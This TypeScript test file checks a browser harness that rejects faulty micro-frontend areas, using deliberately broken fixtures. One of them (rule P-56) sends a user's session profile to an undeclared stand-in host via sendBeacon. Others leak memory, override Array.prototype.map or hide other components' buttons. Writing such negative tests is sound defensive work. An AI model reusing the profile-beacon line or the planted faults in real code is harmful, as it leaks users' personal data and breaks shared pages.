import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { hostPage } from 'deploy-tooling/src/browser-check/host-page.mjs';
import { findChromium } from 'deploy-tooling/src/test/chromium.mjs';
import { type BrowserArea, browserArea } from '../testing/browser-area';
import { type BrowserCheck, checkIn } from './check';
import { type Chromium, startChromium } from './chromium';

let browser: Chromium;
let folder = '';
beforeAll(async () => {
  folder = await hostPage();
  browser = await startChromium(await findChromium());
  // the page of the check may have to be built
}, 600_000);
afterAll(() => browser?.end());

const check = async (
  area: BrowserArea,
  widths: readonly (390 | 1440)[] = [1440],
): Promise<BrowserCheck> => {
  const content = await browserArea(area);
  const hostServer = readFileSync(join(folder, 'server.js'), 'utf8');
  return checkIn(browser, { content, hostPage: folder, hostServer, widths });
};

/** Where the sources of these areas lie. */
const SOURCE = /\(mf-promo\/\.build\/broken-\w+\/area\.jsx:\d+\)$/;

test('P-52, P-52a: an area that is as it should be passes in both windows, and what was opened is counted', async () => {
  const { refusals, openings, browser: name } = await check({}, [390, 1440]);
  expect(refusals).toEqual([]);
  // a page and a slot, as guest and player, with four kinds of answers
  expect(openings).toBe(2 * 2 * 2 * 4);
  expect(name).toMatch(/^Chromium \d/);
});

/** Each is refused for its own reason; `placed` where the sources say what did it. */
const BROKEN: readonly [
  rule: string,
  what: string,
  area: BrowserArea,
  reason: RegExp,
  placed: boolean,
][] = [
  [
    'P-52',
    'that falls over an empty list',
    { page: 'return rows === null ? null : <h1>{rows[0].title}</h1>;' },
    /page "list" \(\/promo\), a guest, empty answers, 1440 px: it throws: TypeError: Cannot read properties of undefined \(reading 'title'\)/,
    true,
  ],
  [
    'P-52',
    'that falls over a player',
    {
      page: "if (host.session.player) throw new Error('no purse'); return <h1>{t('list.title')}</h1>;",
    },
    /page "list" \(\/promo\), a player, full answers, 1440 px: it throws: Error: no purse/,
    true,
  ],
  [
    'P-52',
    'whose form throws when it is sent',
    {
      page: `const send = (event) => { event.preventDefault(); throw new Error('no form'); };
        return <form onSubmit={send}><Button type="submit">{t('list.more')}</Button></form>;`,
    },
    /page "list" \(\/promo\), a guest, full answers, 1440 px: an error that nobody catches: Error: no form/,
    true,
  ],
  [
    'P-52',
    'that leaves a refused call to nobody',
    { mount: "host.http.call({ method: 'GET', path: '/json-api/none', auth: 'none' });" },
    /it is mounted, a guest, full answers, 1440 px: an error that nobody catches: a promise is rejected/,
    false,
  ],
  [
    'P-52',
    'that complains to the console',
    { slot: "useEffect(() => console.error('odd'), []); return null;" },
    /slot "widget", a guest, full answers, 1440 px: an error in the console: odd/,
    true,
  ],
  [
    'P-53',
    'that paints in a browser what no server painted',
    { page: "return <h1>{typeof window === 'undefined' ? 'Server' : 'Browser'}</h1>;" },
    /page "list" \(\/promo\) over the markup of its server build, a guest, .*: "<h1>Server<\/h1>" became "<h1>Browser<\/h1>"/,
    true,
  ],
  [
    'P-54',
    'that is busy 400 ms of every 405',
    {
      mount: `const busy = () => { const end = performance.now() + 400; while (performance.now() < end); };
        const timer = setInterval(busy, 405);`,
      dispose: 'clearInterval(timer);',
    },
    /a guest, full answers, 1440 px: it uses \d+ % of a processor while nothing happens, 20 are the most/,
    true,
  ],
  [
    'P-54',
    'with an effect that causes itself',
    {
      page: 'const [at, setAt] = useState(0); useEffect(() => setAt(at + 1), [at]); return <h1>{t("list.title")}</h1>;',
    },
    /page "list" .*: it uses \d+ % of a processor while nothing happens/,
    true,
  ],
  [
    'P-54',
    'whose page works for 400 ms at once',
    {
      top: 'let times = 0;',
      page: `useState(() => { let sum = 0; for (let at = 0; at < 6e8 && times < 3; at += 1) sum += at % 7; return sum + times++; });
        return <h1>{t('list.title')}</h1>;`,
    },
    /page "list" \(\/promo\), a guest, full answers, 1440 px: one task works for \d+ ms, 200 are the most/,
    true,
  ],
  [
    'P-54',
    'that never ends',
    { slot: 'useEffect(() => { for (;;); }, []); return null;' },
    /slot "widget", a guest, full answers, 1440 px: it works without an end/,
    false,
  ],
  [
    'P-55',
    'that keeps two million objects of each time',
    {
      top: 'const kept = [];',
      mount:
        'if (host.session.player) kept.push(Array.from({ length: 2_000_000 }, (_, at) => ({ at })));',
    },
    /it is mounted 20 times, a player, full answers, 1440 px: \d+ kB of memory stay of each time/,
    true,
  ],
  [
    'P-55',
    'that goes on listening',
    { slot: "useEffect(() => window.addEventListener('resize', () => {}), []); return null;" },
    /it is mounted 20 times, .*: \d+(\.\d)? listeners stay of each time/,
    true,
  ],
  [
    'P-55',
    'whose dispose throws',
    { dispose: "throw new Error('no end');" },
    /it is disposed of, a guest, full answers, 1440 px: its dispose throws: Error: no end/,
    true,
  ],
  [
    'P-55',
    'that still hears of the clock',
    { mount: 'host.clock.everySecond(() => {});' },
    /it is disposed of, a guest, full answers, 1440 px: afterwards it still listens: clock/,
    false,
  ],
  [
    'P-56',
    'that sends the profile to others',
    {
      mount: `if (host.session.profile)
        navigator.sendBeacon('https://collect.test/in', JSON.stringify(host.session.profile));`,
    },
    /it is mounted, a player, full answers, 1440 px: it asks https:\/\/collect\.test, which it has not declared/,
    true,
  ],
  [
    'P-57',
    'that replaces a function of the language',
    {
      top: 'const { map } = Array.prototype; Array.prototype.map = function (...given) { return map.apply(this, given); };',
    },
    /it was opened and disposed of: it changes Array\.prototype\.map/,
    true,
  ],
  [
    'P-57',
    'that adds a global',
    { mount: 'window.promoState = { host };' },
    /it was opened and disposed of: it adds the global promoState/,
    true,
  ],
  [
    'P-57',
    'whose sheet hides others’ buttons',
    { styles: 'button, header { display: none !important }' },
    /it was opened and disposed of: it changes others in the page: header: display is none, was block/,
    false,
  ],
  [
    'P-58',
    'that shows the key of a text',
    { page: "return <h1>{t('list.lost')}</h1>;" },
    /page "list" .*: it shows "list\.lost", a key without a text/,
    true,
  ],
  [
    'P-58',
    'that forgets to look a text up',
    { page: 'return <h1>list.title</h1>;' },
    /page "list" .*: it shows "list\.title", the key of a text/,
    true,
  ],
  [
    'P-58',
    'with a field that nobody can name',
    { page: 'return <input />;' },
    /page "list" .*\(label\): <input>/,
    true,
  ],
];

test.each(BROKEN)('%s: an area %s is refused', async (_rule, _what, area, reason, placed) => {
  const { refusals } = await check(area);
  expect(refusals.map((each) => each.reason)).toContainEqual(expect.stringMatching(reason));
  const found = refusals.find((each) => reason.test(each.reason));
  expect(SOURCE.test(found?.reason ?? '')).toBe(placed);
  expect(found?.help).toContain('see it with: npm run dev -- mf-promo');
});
